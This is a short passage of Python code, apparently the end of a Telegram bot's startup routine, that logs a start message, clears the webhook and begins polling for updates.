     logger.info(f"✅ Started. Restored: {restored}")
     await bot.delete_webhook(drop_pending_updates=True)
     await dp.start_polling(bot)